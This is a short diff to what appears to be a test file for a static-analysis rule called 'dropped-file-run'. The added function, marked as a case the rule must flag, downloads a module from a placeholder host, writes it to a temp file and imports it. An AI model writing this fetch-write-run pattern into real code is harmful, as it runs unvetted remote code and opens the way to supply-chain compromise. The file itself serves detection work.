@@ -60,3 +60,11 @@ export async function lookAlikes(file, text) {
   // ok: dropped-file-run
   return 'fs.writeFileSync(file, data); spawn(file)';
 }
+
+async function skill(name) {
+  const answer = await fetch(`https://skills.example.com/${name}.mjs`);
+  const file = join(tmpdir(), "skill.mjs");
+  // ruleid: dropped-file-run
+  await writeFile(file, await answer.text());
+  return import(pathToFileURL(file).href);
+}
